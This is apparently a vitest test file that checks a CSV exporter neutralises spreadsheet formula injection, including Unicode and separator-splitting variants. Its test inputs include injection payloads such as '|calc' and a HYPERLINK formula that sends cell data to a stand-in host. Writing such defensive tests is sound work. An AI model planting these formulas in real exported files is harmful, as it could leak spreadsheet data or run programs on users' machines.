import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { toCsv } from './csv.ts';

/** What a spreadsheet with this separator takes for cells, when it does not heed quotes inside a line. */
const naiveCells = (text: string) => text.split(/[;\t\r\n]/);
const startsFormula = /^[\s"\p{Cf}]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u;

test.each([
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(A1)',
  '\u200b=1',
  '\u00ad=1',
  '\u2060\u200e=1',
  '"=1',
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '  =1',
  '|calc',
  '%0A=1',
  '=HYPERLINK("http://x.example?"&A1,"x")',
])('%j is text, not a formula', (text) => {
  const [[value]] = parse(toCsv(['a'], [[text]]), { bom: true, from_line: 2 }) as [[string]];
  expect(value).toBe(`'${text}`);
});

test.each([
  'a;=1+1',
  'a;"=1"',
  'a; =1',
  'a\n=1',
  'a\t=1',
  '\t=1',
  '\r=1',
  'a;\u200b\uff1d1',
  ';;=1',
  'x\n- one\n- two',
])('%j is no formula where the semicolon separates', (text) => {
  const cells = naiveCells(
    toCsv(['a'], [[text]])
      .split('\r\n')
      .slice(1)
      .join('\n'),
  );
  expect(cells.filter((cell) => startsFormula.test(cell))).toEqual([]);
});

test('what was written can be read: quotes, line ends, commas, empty cells, numbers', () => {
  const rows = [['He said "no",\nthen left', null, 5, 'Zoë 🌊', 'a=b']];
  expect(parse(toCsv(['a', 'b', 'c', 'd', 'e'], rows), { bom: true })).toEqual([
    ['a', 'b', 'c', 'd', 'e'],
    ['He said "no",\nthen left', '', '5', 'Zoë 🌊', 'a=b'],
  ]);
});
